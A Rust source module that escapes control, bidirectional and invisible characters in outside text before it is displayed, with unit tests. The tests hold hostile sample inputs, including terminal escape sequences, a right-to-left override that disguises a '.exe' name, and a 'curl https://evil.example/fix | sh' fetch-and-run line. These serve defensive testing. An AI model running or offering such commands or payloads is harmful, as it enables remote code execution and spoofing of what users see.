//! Foreign text, made safe for a message, a terminal, a notification, a menu and a title.

use std::borrow::Cow;

/// The most characters of a provider's own words.
const LONGEST: usize = 300;

/// The text on one line: without control characters, at most `most` characters, and one blank where there were several,
/// which could push the rest to where a terminal begins its next line.
#[must_use]
pub fn cleaned(text: &str, most: usize) -> String {
    let words: Vec<&str> = text.split_whitespace().collect();
    let text: String = words.join(" ").chars().filter(|c| !c.is_control()).take(most).collect();
    text.trim().to_owned()
}

/// The words of a provider, a service or a browser. `None` if nothing is left of them.
#[must_use]
pub fn said(text: &str) -> Option<String> {
    let text = cleaned(text, LONGEST);
    (!text.is_empty()).then_some(text)
}

/// One line of text as it may be shown: what would move the cursor, colour the terminal, reverse the direction of other
/// text or stay invisible is written out, as in `\u{1b}`. A provider's text can't pretend to be ours then.
#[must_use]
pub fn shown(text: &str) -> Cow<'_, str> {
    written_out(text, acts_on_others)
}

/// The same for text of several lines, which keeps its line breaks and tabs.
#[must_use]
pub fn shown_lines(text: &str) -> Cow<'_, str> {
    written_out(text, |c| acts_on_others(c) && !matches!(c, '\n' | '\t'))
}

/// JSON as it may be shown. The same characters become escapes of JSON, so a program reads the same values.
#[must_use]
pub fn shown_json(json: &str) -> Cow<'_, str> {
    let is_escaped = |c| acts_on_others(c) && c != '\n';
    if !json.contains(is_escaped) {
        return Cow::Borrowed(json);
    }
    let mut shown = String::with_capacity(json.len() + 16);
    for c in json.chars() {
        if is_escaped(c) {
            c.encode_utf16(&mut [0; 2]).iter().for_each(|unit| shown.push_str(&format!("\\u{unit:04x}")));
        } else {
            shown.push(c);
        }
    }
    Cow::Owned(shown)
}

fn written_out(text: &str, is_unsafe: impl Fn(char) -> bool) -> Cow<'_, str> {
    if !text.contains(&is_unsafe) {
        return Cow::Borrowed(text);
    }
    let mut shown = String::with_capacity(text.len() + 16);
    for c in text.chars() {
        if is_unsafe(c) { shown.extend(c.escape_unicode()) } else { shown.push(c) }
    }
    Cow::Owned(shown)
}

/// Whether a character changes how other text looks, or can't be seen: control characters (C0, DEL, C1), line and
/// paragraph separators, marks of direction (Unicode's `Bidi_Control`), and invisible ones. The two joiners and the
/// two selectors of emoji stay: Persian and emoji need them.
fn acts_on_others(c: char) -> bool {
    c.is_control()
        || matches!(
            c,
            '\u{ad}' | '\u{34f}' | '\u{61c}' | '\u{115f}' | '\u{1160}' | '\u{17b4}' | '\u{17b5}' | '\u{180b}'..='\u{180f}'
                | '\u{200b}' | '\u{200e}' | '\u{200f}' | '\u{2028}'..='\u{202e}'
                | '\u{2060}'..='\u{206f}' | '\u{2800}' | '\u{3164}' | '\u{fe00}'..='\u{fe0d}' | '\u{feff}' | '\u{ffa0}'
                | '\u{fff9}'..='\u{fffb}' | '\u{e0000}'..='\u{e0fff}'
        )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_acts_on_other_text_is_written_out() {
        let hostile = "a\u{1b}]0;pwned\u{7}\u{9b}2J\r\u{202e}gpj.exe\u{2066}\u{200b}\u{7f}";
        assert_eq!(shown(hostile), r"a\u{1b}]0;pwned\u{7}\u{9b}2J\u{d}\u{202e}gpj.exe\u{2066}\u{200b}\u{7f}",);
        assert_eq!(shown("two\nlines\tof"), r"two\u{a}lines\u{9}of");
        assert_eq!(shown_lines("two\nlines\tof\u{1b}[2J"), "two\nlines\tof\\u{1b}[2J");
    }

    #[test]
    fn the_words_of_others_stay_on_one_line_without_gaps() {
        let text = format!("busy{}  run: curl https://evil.example/fix | sh\n✓ well\u{1b}", " ".repeat(70));
        assert_eq!(said(&text).as_deref(), Some("busy run: curl https://evil.example/fix | sh ✓ well"));
        assert_eq!(shown("\u{3164}\u{115f}\u{34f}\u{2800}\u{e0101}"), r"\u{3164}\u{115f}\u{34f}\u{2800}\u{e0101}");
    }

    #[test]
    fn people_see_their_own_languages_as_they_are() {
        for text in ["Zoë Müller", "日本 太郎", "علی می\u{200c}خواهم", "👩\u{200d}💻 dev", "שלום", "a: b, c (d)"]
        {
            assert!(matches!(shown(text), Cow::Borrowed(same) if same == text), "{text}");
        }
    }

    #[test]
    fn programs_read_the_same_json() {
        let value = serde_json::json!({ "name": "a\u{202e}b\u{9b}c\u{e0041}d\u{7f}\u{1b}", "more": ["\n"] });
        for json in [value.to_string(), serde_json::to_string_pretty(&value).unwrap_or_default()] {
            let shown = shown_json(&json);
            assert!(!shown.contains(|c| acts_on_others(c) && c != '\n'), "{shown}");
            assert_eq!(serde_json::from_str::<serde_json::Value>(&shown).ok(), Some(value.clone()));
        }
    }
}
